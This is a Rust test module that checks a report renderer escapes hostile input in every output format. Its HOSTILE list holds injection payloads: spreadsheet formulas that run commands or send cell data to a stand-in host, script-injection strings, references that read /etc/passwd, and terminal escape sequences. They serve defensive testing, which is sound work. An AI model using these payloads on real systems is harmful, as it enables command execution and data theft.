//! Hostile: words that attack a target, in every format.
//!
//! In:    a corpus after the catalogue of hostile input (H-98 to H-114).
//! Out:   failures.
//! Never: compiled into the product.

use std::io::Cursor;

use arrow::array::AsArray;
use calamine::{Data, Reader as _, Xlsx};
use parquet::arrow::arrow_reader::ParquetRecordBatchReader;
use proptest::prelude::*;

use super::csv::CsvText;
use super::escape::cell_text;
use super::sample::{report, row};
use super::tests::{as_xml, json, text};
use super::{Format, Style, TerminalStyle, render};
use crate::diagnostic::Finding;
use crate::model::answer::{Answer, Standing};
use crate::model::dimension::Dimension;
use crate::model::metric::CostMetric;
use crate::report::table::Cell;
use crate::report::{Fact, Report};

/// Words that attack one target or another; the numbers are those of the hostile catalogue.
pub(super) const HOSTILE: &[&str] = &[
    // H-98 to H-100: formulas.
    "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "   =1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    // H-101: separators.
    "a\"b,c;d\ne\r\nf",
    // H-102, H-103: what drives a terminal.
    "\x1b[2J\x1b]52;c;AAAA\x07\x1b]8;;http://x\x1b\\ \x1b]0;t\x07\x1b[6n\x1bPq\x1b_x",
    "\u{9b}2J\u{9d}\u{90}\x7f\x07\x08\x08over\rwrite",
    // H-104, H-105: what hides or turns text.
    "a\u{202a}\u{202e}b\u{2066}\u{2069}\u{200e}\u{200f}\u{61c}",
    "a\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}\u{fe0f}\u{e0001}\u{e0041}",
    // H-106: what breaks columns.
    "👩\u{200d}👩\u{200d}👧\u{200d}👦\u{3164}\u{fdfa}",
    // H-107: what XML 1.0 forbids.
    "\0\u{1}\u{b}\u{c}\u{fffe}\u{ffff}\u{fdd0}",
    // H-108 to H-110: markup.
    "</text><script>alert(1)</script>",
    "\" onload=\"alert(1)",
    "]]><!-- &#x3c; javascript:alert(1) {{7*7}} ${x}",
    "</script><script>\u{2028}\u{2029}",
    ";background:url(//x)<image href=\"file:///etc/passwd\"><use/><foreignObject>",
    // What a typesetter would run.
    "#panic() #read(\"/etc/passwd\") #{1 + 1}",
    "$x^2$ *bold* _it_ @ref <label> = heading // comment",
    "#import \"@preview/x:1.0.0\": * \\u{41} ~ -- --- ... https://x.example",
    // H-111, H-113: what looks like something else.
    "_x001B_",
    "NULL",
    "NaN",
    "1e5",
    "00123",
    "2026-01-02",
    "TRUE",
    "| a | `b` [c](http://d) **e**",
    // H-114: ordinary names.
    "דוד לוי",
    "محمد",
    "สมชาย",
    "山田 太郎",
    "नमस्ते",
];

/// A report whose every word is hostile, among them the names of a tag, a currency and a filter.
pub(super) fn hostile(words: &[&str]) -> Report {
    let long = "x".repeat(40_000);
    let pile = format!("e{}", "\u{301}".repeat(100_000));
    let words = words.iter().copied().chain([long.as_str(), pile.as_str()]);
    let rows = (1..).zip(words).map(|(cost, word)| {
        let day = Some(format!("2026-09-{:02}", cost % 3 + 1));
        row(Standing::Attributed, vec![Some(word.to_owned()), day], cost * 1_000_000_000_000)
    });
    let rows = rows.collect();
    let tag = Dimension::Tag("<b>\x1b[2J=1|`".to_owned());
    let dimensions = vec![tag, Dimension::Month];
    let mut report = report(Answer::whole(dimensions, CostMetric::List, rows), None);
    report.caption.filters = HOSTILE.iter().map(ToString::to_string).collect();
    report
}

#[test]
fn nothing_in_the_data_drives_a_terminal() {
    for style in [
        TerminalStyle::default(),
        TerminalStyle { wide: true, ..TerminalStyle::default() },
        TerminalStyle { width: 30, unicode: false, ..TerminalStyle::default() },
    ] {
        let table = text(&hostile(HOSTILE), Format::Table, style);
        let odd = table.chars().find(|c| c.is_control() && *c != '\n');
        assert_eq!(odd, None);
        for hidden in ['\u{202e}', '\u{200b}', '\u{2066}', '\u{feff}', '\u{2028}', '\u{e0041}'] {
            assert!(!table.contains(hidden));
        }
    }
}

#[test]
fn a_table_of_hostile_words_keeps_one_line_per_row() {
    use unicode_width::UnicodeWidthStr;
    let report = hostile(HOSTILE);
    let style = TerminalStyle { width: 100, ..TerminalStyle::default() };
    let table = text(&report, Format::Table, style);
    let body = table.split("─\n").nth(1).unwrap();
    assert_eq!(body.lines().count(), HOSTILE.len() + 3);
    assert!(table.lines().all(|line| line.width() <= 100));
}

/// What a reader of RFC 4180 gets: records of cells; quoted cells are marked with their quotes off.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut letters = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = letters.next() {
        match c {
            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => record.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            '\n' if !quoted => {
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
            }
            _ => cell.push(c),
        }
    }
    records
}

#[test]
fn a_spreadsheet_reads_every_row_and_runs_none() {
    let report = hostile(HOSTILE);
    let records = read_csv(&text(&report, Format::Csv, TerminalStyle::default()));
    assert_eq!(records.len(), HOSTILE.len() + 3);
    for cell in records.iter().map(|record| &record[0]) {
        let runs = cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
        assert!(!runs && !cell.starts_with(['\t', '\r', '\n', '\0']), "{cell:?}");
    }
    let raw = Style { csv: CsvText::Raw, ..Style::default() };
    let raw = String::from_utf8(render(&report, Format::Csv, &raw).unwrap()).unwrap();
    let back: Vec<String> =
        read_csv(&raw).into_iter().skip(1).map(|record| record[0].clone()).collect();
    assert_eq!(back[..HOSTILE.len()], *HOSTILE);
}

#[test]
fn json_gives_hostile_words_back_unchanged() {
    let json = json(&hostile(HOSTILE));
    for (told, word) in json["rows"].as_array().unwrap().iter().zip(HOSTILE) {
        assert_eq!(told["tag:<b>\u{1b}[2J=1|`"], *word);
    }
}

#[test]
fn markdown_of_hostile_words_is_one_table_without_html() {
    let report = hostile(HOSTILE);
    let page = text(&report, Format::Markdown, TerminalStyle::default());
    assert!(!page.contains('<') && !page.contains('\r'));
    let cells = |line: &str| line.replace("\\\\", "").replace("\\|", "").matches('|').count();
    let table: Vec<&str> = page.lines().filter(|line| line.starts_with("| ")).collect();
    assert_eq!(table.len(), HOSTILE.len() + 2 + 3);
    assert!(table.iter().all(|line| cells(line) == 5), "{table:#?}");
}

#[test]
fn a_workbook_of_hostile_words_holds_them_as_words() {
    let report = hostile(HOSTILE);
    let bytes = render(&report, Format::Xlsx, &Style::default()).unwrap();
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    for name in workbook.sheet_names() {
        for (_, _, formula) in workbook.worksheet_formula(&name).unwrap().used_cells() {
            assert!(formula.is_empty() || formula.starts_with("SUBTOTAL(109,"), "{formula}");
        }
    }
    let cells = workbook.worksheet_range("Data").unwrap();
    for (row, word) in cells.rows().skip(1).zip(HOSTILE) {
        assert_eq!(row[0], Data::String(cell_text(word)));
    }
    let long = cells.rows().nth(HOSTILE.len() + 1).unwrap()[0].to_string();
    assert_eq!(long.encode_utf16().count(), 32_767);
}

#[test]
fn parquet_and_json_lines_give_hostile_words_back_unchanged() {
    let report = hostile(HOSTILE);
    let bytes = render(&report, Format::Parquet, &Style::default()).unwrap();
    let reader = ParquetRecordBatchReader::try_new(bytes::Bytes::from(bytes), 1024).unwrap();
    let batches: Vec<_> = reader.map(Result::unwrap).collect();
    let told = batches[0].column(0).as_any_dictionary();
    let words = told.values().as_string::<i32>();
    let keys = told.normalized_keys();
    let told = keys.iter().map(|key| words.value(*key));
    assert!(told.take(HOSTILE.len()).eq(HOSTILE.iter().copied()));
    let lines = text(&report, Format::Jsonl, TerminalStyle::default());
    assert_eq!(lines.lines().count(), HOSTILE.len() + 2);
    for (line, word) in lines.lines().zip(HOSTILE) {
        let row: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(row["tag:<b>\u{1b}[2J=1|`"], *word);
    }
}

/// Only elements and attributes that charts need, and every word as text.
pub(super) fn assert_harmless(svg: &str) {
    let document = roxmltree::Document::parse(svg).unwrap();
    for node in document.descendants().filter(roxmltree::Node::is_element) {
        let name = node.tag_name().name();
        assert!(["svg", "rect", "text", "polyline"].contains(&name), "{name}");
        for attribute in node.attributes() {
            let known = "x y dx dy width height viewBox opacity fill stroke text-anchor \
                         font-family font-size stroke-width points";
            assert!(known.split(' ').any(|known| known == attribute.name()), "{attribute:?}");
        }
    }
    assert_eq!(svg.matches("xmlns").count(), 1);
}

#[test]
fn an_svg_of_any_words_is_well_formed_and_inert() {
    assert_harmless(&text(&hostile(HOSTILE), Format::Svg, TerminalStyle::default()));
    for word in HOSTILE {
        let report = hostile(&[word]);
        let svg = text(&report, Format::Svg, TerminalStyle::default());
        assert_harmless(&svg);
    }
    render(&hostile(HOSTILE), Format::Png, &Style::default()).unwrap();
}

/// What the page is made of; everything else would be a word of the data that became markup.
const ELEMENTS: &str = "html head meta title style body main article header h1 h2 h3 bdi ul ol li \
                        dl div dt dd small section figure figcaption svg desc rect text polyline \
                        table caption thead tbody tfoot tr th td span details summary p code a nav \
                        script";
const ATTRIBUTES: &str = "lang charset http-equiv content name id class role tabindex aria-label \
                          aria-labelledby aria-describedby aria-hidden scope title data-key \
                          data-value data-sort data-filter data-filtered viewBox \
                          preserveAspectRatio x y dx dy \
                          width height opacity fill stroke text-anchor font-family font-size \
                          stroke-width points href";

/// Only elements and attributes of ours, one script, and links to places of the same folder.
pub(super) fn assert_inert(page: &str) {
    let xml = as_xml(page);
    let options = roxmltree::ParsingOptions { allow_dtd: true, ..Default::default() };
    let document = roxmltree::Document::parse_with_options(&xml, options).unwrap();
    let is_among = |known: &str, name: &str| known.split_whitespace().any(|known| known == name);
    for node in document.descendants() {
        assert!(!node.is_comment() && !node.is_pi(), "{node:?}");
        if node.is_element() {
            assert!(is_among(ELEMENTS, node.tag_name().name()), "{node:?}");
        }
        for attribute in node.attributes() {
            let is_link = attribute.name() == "href";
            assert!(is_among(ATTRIBUTES, attribute.name()), "{attribute:?}");
            assert!(!is_link || attribute.value().starts_with(['#', '.']), "{attribute:?}");
        }
    }
    let odd = page.chars().find(|c| c.is_control() && *c != '\n');
    assert_eq!(odd, None);
    for hidden in ['\u{202e}', '\u{200b}', '\u{2066}', '\u{feff}', '\u{2028}', '\u{e0041}'] {
        assert!(!page.contains(hidden));
    }
}

#[test]
fn a_page_of_any_words_is_well_formed_and_inert() {
    let page = text(&hostile(HOSTILE), Format::Html, TerminalStyle::default());
    assert_inert(&page);
    assert_eq!(page.matches("<tr").count(), HOSTILE.len() + 2 + 2, "one row per word");
    for word in HOSTILE {
        let mut report = hostile(&[word]);
        report.title = (*word).to_owned().into();
        report.sections[0].heading = Some((*word).to_owned().into());
        report.subject.push(Fact {
            key: "contact",
            heading: "Contact".into(),
            shown: Cell::text((*word).to_owned()),
        });
        report.findings = vec![Finding::new("odd", (*word).to_owned())];
        assert_inert(&text(&report, Format::Html, TerminalStyle::default()));
    }
}

#[test]
fn a_page_links_only_to_files_that_we_name() {
    for (name, links) in [
        ("search-1f0c9a4b7d2e.html", true),
        ("javascript:alert(1)//.html", false),
        ("../../x.html", false),
        ("//host/x.html", false),
        ("X.html", false),
        ("x.csv", false),
    ] {
        let mut report = hostile(&["a"]);
        let table = &mut report.sections[0].table;
        table.columns[0].key = "file".to_owned();
        table.rows[0].cells[0] = Cell::text(name);
        let page = text(&report, Format::Html, TerminalStyle::default());
        assert_eq!(page.contains("<a href"), links, "{name}");
        assert_inert(&page);
    }
}

#[test]
fn words_are_escaped_once() {
    let page = as_xml(&text(&hostile(&["a<b>&'\""]), Format::Html, TerminalStyle::default()));
    let options = roxmltree::ParsingOptions { allow_dtd: true, ..Default::default() };
    let document = roxmltree::Document::parse_with_options(&page, options).unwrap();
    let told = document.descendants().filter_map(|node| node.text());
    assert!(told.map(str::trim).any(|text| text.starts_with("a<b>&'\"")), "{page}");
    let svg = text(&hostile(&["a<b>&'\""]), Format::Svg, TerminalStyle::default());
    let document = roxmltree::Document::parse(&svg).unwrap();
    let told = document.descendants().filter_map(|node| node.text());
    assert!(told.map(str::trim).any(|text| text.starts_with("a<b>&'\"")), "{svg}");
}

proptest! {
    #[test]
    fn any_word_makes_a_well_formed_picture_and_page(
        words in prop::collection::vec(any::<String>(), 1..8),
    ) {
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let rows = words.iter().map(|word| {
            row(Standing::Attributed, vec![Some((*word).to_owned())], 1_000_000_000_000)
        });
        let rows = rows.collect();
        let answer = Answer::whole(vec![Dimension::User], CostMetric::List, rows);
        let report = report(answer, None);
        assert_harmless(&text(&report, Format::Svg, TerminalStyle::default()));
        assert_inert(&text(&report, Format::Html, TerminalStyle::default()));
    }
}
